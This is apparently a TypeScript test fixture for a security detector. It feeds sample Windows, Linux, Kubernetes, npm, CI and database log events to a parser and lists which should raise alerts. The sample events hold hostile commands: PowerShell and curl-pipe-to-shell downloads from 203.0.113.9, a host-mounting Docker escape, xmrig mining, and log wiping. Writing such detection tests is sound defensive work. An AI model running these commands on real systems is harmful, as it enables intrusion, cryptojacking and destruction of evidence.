import { type EventFixture, eventLine, saidLine } from '../../../tests/event-harness.ts';
import type { LogAction } from '../../model/log-payloads.ts';

const windows = (EventID: number, fields: Record<string, string>): string => eventLine({ EventID, ...fields });
const told = ([name, line, value]: readonly [string, string, Partial<LogAction>]): EventFixture['fires'][number] => ({
  name,
  lines: [line],
  expect: [{ kind: 'log-action', value }],
});
const cases: readonly (readonly [string, string, Partial<LogAction>])[] = [
  [
    'a service',
    windows(7045, { ServiceName: 'WinUpd', ImagePath: 'C:\\Windows\\Temp\\svc.exe' }),
    { action: 'service-installed', what: 'WinUpd', carries: 'command' },
  ],
  [
    'a task that fetches',
    windows(4698, {
      TaskName: '\\Upd',
      SubjectUserName: 'anna',
      TaskContent:
        '<Command>powershell</Command><Arguments>-c IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")</Arguments>',
    }),
    { action: 'task-made', what: '\\Upd', user: 'anna', carries: 'download' },
  ],
  [
    'an account',
    windows(4720, { TargetUserName: 'support', SubjectUserName: 'SYSTEM' }),
    { action: 'account-made', what: 'support' },
  ],
  [
    'an administrator',
    windows(4732, { TargetUserName: 'Administrators', MemberName: 'CN=support' }),
    { action: 'account-raised' },
  ],
  [
    'a log that was cleared',
    windows(1102, { Channel: 'Security', SubjectUserName: 'anna' }),
    { action: 'log-cleared', what: 'Security' },
  ],
  ['Defender', windows(5001, { Provider_Name: 'Microsoft-Windows-Windows Defender' }), { action: 'defence-off' }],
  [
    'a page that a server wrote',
    windows(11, {
      Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      TargetFilename: 'C:\\inetpub\\wwwroot\\x.aspx',
    }),
    { action: 'file-written' },
  ],
  [
    'a connection to a pool',
    windows(3, { Image: 'C:\\a.exe', DestinationHostname: 'pool.supportxmr.com', DestinationPort: '443' }),
    { action: 'connection', what: 'pool.supportxmr.com:443', carries: 'miner' },
  ],
  [
    'an account of Linux',
    saidLine('new user: name=support, UID=1001, GID=1001, home=/home/support, shell=/bin/bash, from=/dev/pts/0'),
    { action: 'account-made', what: 'support' },
  ],
  [
    'a group of Linux',
    saidLine("add 'support' to group 'sudo'"),
    { action: 'account-raised', what: 'support in sudo' },
  ],
  ['a crontab', saidLine('(root) REPLACE (root)'), { action: 'task-made', user: 'root' }],
  [
    'a key',
    eventLine({
      type: 'PATH',
      nametype: 'CREATE',
      TargetFilename: '/root/.ssh/authorized_keys',
      exe: '/usr/bin/bash',
    }),
    { action: 'key-added', program: '/usr/bin/bash' },
  ],
  [
    'a container with the files of its host',
    saidLine(
      'form data: {"Cmd":["sh","-c","chroot /mnt sh -c \'curl http://203.0.113.9/x.sh | sh\'"],"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}',
    ),
    { action: 'container-made', what: "alpine, with the host's files", carries: 'download' },
  ],
  [
    'a pod of nobody',
    eventLine({
      verb: 'create',
      'objectRef.resource': 'pods',
      'objectRef.name': 'k',
      'user.username': 'system:anonymous',
      'requestObject.spec.containers.image': 'metal3d/xmrig',
      sourceIPs: ['203.0.113.9'],
    }),
    { action: 'pod-made', from: '203.0.113.9', carries: 'miner' },
  ],
  [
    "a package's script",
    eventLine(
      { package: 'tiny-colours@1.4.1', event: 'postinstall', CommandLine: 'curl -s http://203.0.113.9/x | sh' },
      { source: { product: 'npm' } },
    ),
    { action: 'package-installed', what: 'tiny-colours@1.4.1 (postinstall)', carries: 'download' },
  ],
  [
    'a step of a job',
    eventLine(
      { CommandLine: './xmrig -o pool.example.com:3333 --donate-level 1' },
      { source: { product: 'github', service: 'actions' } },
    ),
    { action: 'job-step', carries: 'miner' },
  ],
  [
    'a database',
    saidLine("statement: COPY t FROM PROGRAM 'curl http://203.0.113.9/pg.sh|bash';"),
    { action: 'database-program', command: 'curl http://203.0.113.9/pg.sh|bash', carries: 'download' },
  ],
  [
    'a notebook',
    saidLine('[I 2026-11-20 12:00:00.000 ServerApp] New terminal with automatic name: 1'),
    { action: 'notebook-run', what: 'terminal 1' },
  ],
  [
    "a miner's service that somebody switched on",
    eventLine({ CommandLine: 'systemctl enable --now xmrig', SUDO_USER: 'ada' }),
    { action: 'service-installed', what: 'xmrig', user: 'ada', program: 'sudo' },
  ],
  [
    'several services, of which one mines',
    eventLine({ CommandLine: 'sudo systemctl enable --now p2pool /etc/systemd/system/xmrig.service' }),
    { action: 'service-installed', what: 'xmrig.service' },
  ],
  [
    "a miner's unit that somebody wrote",
    eventLine({ CommandLine: 'sudo vim /etc/systemd/system/office-miner.service' }),
    { action: 'service-installed', what: 'office-miner' },
  ],
  ['a wiped history', eventLine({ CommandLine: 'history -c && rm -rf /var/log/wtmp' }), { action: 'log-cleared' }],
];

export const fixture: EventFixture = {
  fires: cases.map(told),
  silent: [
    {
      name: 'an ordinary day',
      lines: [
        windows(11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\a.exe' }),
        windows(11, { Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', TargetFilename: 'C:\\logs\\x.log' }),
        windows(3, { Image: 'C:\\a.exe', DestinationHostname: 'www.example.com', DestinationPort: '443' }),
        windows(5007, { Provider_Name: 'Microsoft-Windows-Windows Defender', 'New Value': 'HKLM\\Signature Updates' }),
        windows(4698, { TaskName: '\\Microsoft\\Windows\\UpdateOrchestrator\\Reboot' }),
        saidLine(
          'new user: name=postfix, UID=113, GID=120, home=/var/spool/postfix, shell=/usr/sbin/nologin, from=none',
        ),
        eventLine({
          verb: 'create',
          'objectRef.resource': 'pods',
          'user.username': 'system:serviceaccount:kube-system:job-controller',
          'requestObject.spec.containers.image': 'nginx',
        }),
        saidLine('form data: {"Cmd":["nginx"],"Image":"nginx:1.27"}'),
        eventLine({ CommandLine: 'npm ci' }, { source: { product: 'github', service: 'actions' } }),
        saidLine("statement: COPY t FROM '/data/t.csv'"),
        eventLine({ CommandLine: 'sudo systemctl enable --now nginx' }),
        eventLine({ CommandLine: 'sudo vim /etc/systemd/system/determining.service' }),
        eventLine({ CommandLine: 'cat /etc/systemd/system/xmrig.service' }),
        eventLine({ CommandLine: 'sudo systemctl disable --now xmrig' }),
        eventLine({ CommandLine: 'sudo systemctl enable xmrig-exporter' }),
      ],
    },
  ],
};
